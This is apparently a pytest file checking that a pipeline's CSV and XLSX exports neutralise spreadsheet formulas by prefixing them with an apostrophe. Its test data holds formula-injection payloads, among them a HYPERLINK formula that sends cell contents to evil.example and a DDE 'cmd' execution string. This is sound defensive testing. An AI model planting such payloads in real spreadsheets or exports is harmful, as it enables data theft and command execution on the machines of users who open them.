"""Exports (`wenmai show --format csv|xlsx`) never carry a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest

from pipelines.core import store
from pipelines.export import defuse, export_table

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def work(workdir: Path) -> Path:
    table = pa.table({
        "doc_id": [f"d{i}" for i in range(len(ATTACKS) + 1)],
        "text": [*ATTACKS, "职业教育 = 就业"],
        "tokens": [[a, "教育"] for a in ATTACKS] + [["扶贫"]],
        "n": list(range(-1, len(ATTACKS))),  # numbers stay numbers, negative ones too
        "=evil": ["x"] * (len(ATTACKS) + 1),  # a metadata column named by a user's CSV
    })
    store.write_outputs(workdir, "ingest", {"documents": table})
    return workdir


def test_defuse_follows_owasp() -> None:
    assert [defuse(a)[0] for a in ATTACKS] == ["'"] * len(ATTACKS)
    assert defuse("教育 = 就业") == "教育 = 就业" and defuse(-3) == -3 and defuse(None) is None


def test_csv_has_no_formula(work: Path) -> None:
    text = export_table(work, "documents", rows=0, columns=None, fmt="csv", output=None)
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for i, c in enumerate(row) if i != 3]  # column 3 is numbers
    assert not [c for c in cells if c.startswith(FORMULA)]
    assert rows[0][-1] == "'=evil"
    assert rows[1][1] == "'" + ATTACKS[0] and rows[-1][1] == "职业教育 = 就业"
    assert rows[1][3] == "-1"  # a number column is not text


def test_xlsx_has_no_formula(work: Path, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "docs.xlsx"
    export_table(work, "documents", rows=0, columns=None, fmt="xlsx", output=out)
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert sheet["B2"].value == "'" + ATTACKS[0] and sheet["D2"].value == -1
